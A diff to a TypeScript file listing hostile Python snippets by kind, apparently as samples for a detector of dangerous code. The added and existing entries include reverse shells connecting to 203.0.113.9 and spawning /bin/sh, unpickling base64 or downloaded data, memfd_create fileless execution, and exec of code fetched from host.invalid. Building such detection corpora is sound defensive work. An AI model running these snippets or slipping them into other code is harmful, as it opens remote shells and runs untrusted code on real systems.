@@ -1,6 +1,7 @@
 /** Hostile patterns in Python, by kind; as harmless as those in bash. */
 export const python: Readonly<Record<string, ReadonlyArray<string>>> = {
   "reverse-shell": [
+    "import os, socket, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.close(0)\nos.dup(s.fileno())\npty.spawn('/bin/sh')",
     "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('203.0.113.9',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
     "import socket as k, os as o, pty as p\nx=k.socket()\nx.connect(('203.0.113.9',1))\n[o.dup2(x.fileno(),f) for f in (0,1,2)]\np.spawn('/bin/bash')",
     "from socket import socket as S\nfrom os import dup2 as d\nc=S()\nc.connect(('203.0.113.9',1))\nd(c.fileno(),0)",
@@ -60,6 +61,8 @@ export const python: Readonly<Record<string, ReadonlyArray<string>>> = {
     "d='/etc/systemd/system'\nopen(d+'/x.service','w')"
   ],
   "obfuscated-execution": [
+    "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))",
+    "import pickle, requests\npickle.loads(requests.get('https://host.invalid/p').content)",
     "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
     "import base64 as b\ne=exec\ne(b.b64decode(x).decode())",
     "from base64 import b64decode as d\neval(compile(d(x),'x','exec'))",
@@ -77,6 +80,8 @@ export const python: Readonly<Record<string, ReadonlyArray<string>>> = {
     "def d(s):\n  import base64\n  return base64.b64decode(s)\nexec(d(x))"
   ],
   "download-and-run": [
+    "import os\nfd = os.memfd_create('a')\nos.write(fd, program)\nos.execve(f'/proc/self/fd/{fd}', ['a'], {})",
+    "import os\nfd = os.memfd_create('a')\nos.execve(fd, ['a'], {})",
     "import requests\nexec(requests.get('http://host.invalid/x').text)",
     "import urllib.request\nexec(urllib.request.urlopen('http://host.invalid').read())",
     "from urllib.request import urlopen as u\neval(u('http://host.invalid').read().decode())",
